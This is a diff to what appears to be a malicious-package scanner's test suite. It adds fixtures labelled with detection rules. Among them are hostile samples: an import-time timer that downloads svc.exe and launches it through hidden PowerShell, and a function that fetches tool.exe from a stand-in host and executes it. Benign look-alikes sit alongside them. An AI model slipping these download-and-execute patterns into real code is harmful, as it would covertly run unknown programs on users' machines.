@@ -202,6 +202,24 @@ CASES = [
      "code.decode-exec", H, "a command hidden in a hex literal the package ships, when called"),
     ({"demo/hx.py": f"import os, zlib\ndef go():\n    os.system(zlib.decompress({ZIPPED!r}).decode())\n"},
      "code.decode-exec", H, "a command hidden in a compressed literal, when called"),
+    ({"demo/__init__.py": "import os, subprocess, tempfile, threading, urllib.request\n"
+                          "def _update():\n    path = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
+                          "    urllib.request.urlretrieve(URL, path)\n"
+                          "    subprocess.Popen(f'powershell -WindowStyle Hidden -Command Start-Process \"{path}\"', shell=True)\n"
+                          "threading.Timer(10, _update).start()\n"},
+     "code.download-exec", C, "a timer started on import runs a download-and-start function"),
+    ({"demo/web.py": "import threading\ndef serve():\n    pass\nhandlers = dict(index=serve)\n"},
+     "code.process-spawn", None, "a function only stored in a dict at import does not run"),
+    ({"demo/tools.py": "import os, requests\nTARGET = os.path.join(os.getenv('TEMP'), 'svc.bin')\n"
+                       "def fetch():\n    r = requests.get('https://files.x.example/dl/tool.exe?dl=1')\n"
+                       "    open(TARGET, 'wb').write(r.content)\n    os.system(TARGET)\n"},
+     "code.download-exec", H, "the URL names a Windows program: what is started is one"),
+    ({"demo/tools.py": "import subprocess\nfrom pathlib import Path\ndef schedule(root):\n"
+                       "    vbs = Path(root) / 'watch.vbs'\n"
+                       "    vbs.write_text('Set sh = CreateObject(\"WScript.Shell\")\\nsh.Run \"app sync\", 0\\n')\n"
+                       "    subprocess.run(['schtasks', '/create', '/tn', 'app', '/tr', str(vbs)])\n"
+                       "    subprocess.run(['wscript', str(vbs)])\n"},
+     "code.decode-exec", None, "FP regression: a scheduler script for a script host, written and run when asked"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
